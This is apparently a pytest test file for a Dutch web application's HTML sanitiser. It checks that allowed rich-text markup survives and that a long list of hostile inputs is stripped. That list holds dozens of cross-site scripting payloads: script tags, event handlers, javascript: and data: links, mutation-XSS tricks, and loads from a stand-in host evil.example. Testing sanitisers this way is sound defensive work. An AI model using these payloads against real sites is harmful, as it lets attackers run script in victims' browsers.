"""Rich text keeps what is allowed and nothing else, and settles; its other forms keep every word."""

import re

import lxml.html
import pytest

from koppelkansen.core import richtext

OWN_IMAGE = "/gebieden/bloemenbuurt/plan/afbeeldingen/0b0e8c7e-0000-4000-8000-000000000000/"


def clean(html: str) -> str:
    return richtext.clean(html, allows_image=lambda source: source == OWN_IMAGE)


ALLOWED = (
    "<h2>Kop</h2><h3>Kop</h3><h4>Kop</h4><p>Een <strong>vet</strong> en <em>cursief</em> woord<br>nieuwe regel</p>"
    "<ul><li><p>punt</p><ul><li><p>dieper</p></li></ul></li></ul><ol><li><p>een</p></li></ol>"
    "<blockquote><p>citaat</p></blockquote>"
    "<table><tbody><tr><th><p>kop</p></th></tr><tr><td><p>cel</p></td></tr></tbody></table>"
    '<p><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">link</a> '
    '<a href="mailto:team@example.org" rel="noopener noreferrer">mail</a></p>'
    f'<img src="{OWN_IMAGE}" alt="Kaart van de buurt">'
)


def test_allowed_markup_passes_unchanged():
    assert clean(ALLOWED) == ALLOWED


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{OWN_IMAGE}" alt="x" onerror="alert(1)">',
    f'<img src="{OWN_IMAGE}#"onerror="alert(1)" alt="x">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="http://evil.example">x</a>',
    '<a href="/account/logout/">x</a>',
    '<a href="https://example.org" onclick="alert(1)" style="position:fixed" target="_blank" id="x">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p onmouseover=alert(1)>x</p>",
    '<p class="dialog" id="inhoud" data-x="1" hx-get="/" hx-trigger="load">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example';</style>",
    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<p>\x00<scr\x00ipt>alert(1)</script></p>",
    '<table background="javascript:alert(1)"><tr><td background=x>c</td></tr></table>',
    "<table><caption onclick=alert(1)>x</caption><colgroup><col style=x></colgroup><tr><td>c</td></tr></table>",
    "<ul><script>alert(1)</script><li>x</li></ul>",
    "<li><img src=x onerror=alert(1)></li>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "{{constructor.constructor('alert(1)')()}}",
    "<p><p></p></p>",
    "<b><i><u><s><font color=red>x</font></s></u></i></b>",
    "<p>" * 200 + "diep",
    "<ul><li>" * 120 + "diep",
    "<blockquote>" * 400 + "diep",
    "‮<p>omgekeerd</p>",
    "<img src=https://evil.example/pixel.png alt=spion>",
    f"<img src={OWN_IMAGE}>",
    f'<img src="{OWN_IMAGE}" alt="  ">',
]
ATTRIBUTES = {"a": {"href", "rel"}, "img": {"src", "alt"}}


def assert_safe(html: str):
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    for element in root.iterdescendants():
        assert element.tag in richtext.TAGS
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set())
        if element.tag == "a":
            assert re.match(r"(?i)(https://|mailto:)", element.get("href"))
        if element.tag == "img":
            assert element.get("src") == OWN_IMAGE
            assert element.get("alt").strip()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "<p>voor {} na</p>", "<table><tr><td>{}</td></tr></table>", "<li>{}"])
def test_hostile_markup_is_gone_and_the_text_settles(payload, around):
    result = clean(around.format(payload.replace("{", "(").replace("}", ")") if around != "{}" else payload))
    assert_safe(result)
    assert clean(result) == result


def test_scripts_leave_no_text_behind():
    assert clean("<p>a</p><script>alert(1)</script><style>x{}</style>") == "<p>a</p>"


def test_words_of_markup_that_is_not_allowed_stay():
    assert clean("<section><h1>Kop</h1><div>een <b>vet</b> <u>woord</u></div></section>") == (
        "<h2>Kop</h2><p>een <strong>vet</strong> woord</p>"
    )


def test_an_empty_editor_is_an_empty_text():
    assert clean("<p></p>") == ""
    assert clean("<p> </p><p><br></p>") == ""


def test_text_without_markup_becomes_paragraphs():
    assert richtext.paragraphs("een\r\ntwee\r\n\r\n\r\ndrie") == "<p>een<br>twee</p><p>drie</p>"
    assert richtext.paragraphs("<p>blijft\n\nzo</p>") == "<p>blijft\n\nzo</p>"
    assert clean(richtext.paragraphs("1 < 2 & 3\n\n<script>x</script>")) == "<p>1 &lt; 2 &amp; 3</p>"


def test_plain_text_has_every_word_once():
    assert richtext.plain_text(ALLOWED) == "\n".join(
        [
            "Kop",
            "Kop",
            "Kop",
            "Een vet en cursief woord nieuwe regel",
            "punt",
            "dieper",
            "een",
            "citaat",
            "kop",
            "cel",
            "link mail",
            "Kaart van de buurt",
        ]
    )
    assert richtext.word_count("<p>een twee</p><p>drie</p>") == 3


def test_tree_for_a_pdf():
    html = (
        '<h2>Kop</h2><p>a <strong>b</strong>\n c <a href="https://x.nl" rel="noopener noreferrer">d</a></p>'
        "<table><tbody><tr><th>k</th><th>l</th></tr><tr><td>m</td></tr></tbody></table>"
    )
    assert richtext.tree(html) == [
        {"t": "h2", "k": ["Kop"]},
        {"t": "p", "k": ["a ", {"t": "strong", "k": ["b"]}, " c ", {"t": "a", "k": ["d"], "href": "https://x.nl"}]},
        {"t": "table", "columns": 2, "header": [[["k"], ["l"]]], "rows": [[["m"], []]]},
    ]


def test_images_are_found_in_order():
    html = f'<p>a</p><img src="{OWN_IMAGE}" alt="een"><ul><li><img src="{OWN_IMAGE}" alt="twee"></li></ul>'
    assert richtext.image_sources(clean(html)) == [OWN_IMAGE, OWN_IMAGE]


def test_difference_marks_words():
    assert richtext.difference("<p>een oude zin</p>", "<p>een nieuwe zin</p>") == (
        "<p>een <ins>nieuwe</ins> <del>oude</del> zin</p>"
    )
    assert richtext.difference("", "<p>nieuw</p>") == "<ins><p>nieuw</p></ins>"


def test_difference_of_a_very_long_text_compares_blocks():
    old = "".join(f"<p>{'woord ' * 50}{number}</p>" for number in range(200))
    marked = richtext.difference(old, old.replace("<p>", "<p>", 1) + "<p>slot</p>")
    assert marked.count("<ins>") == 1
    assert "<ins><p>slot</p></ins>" in marked
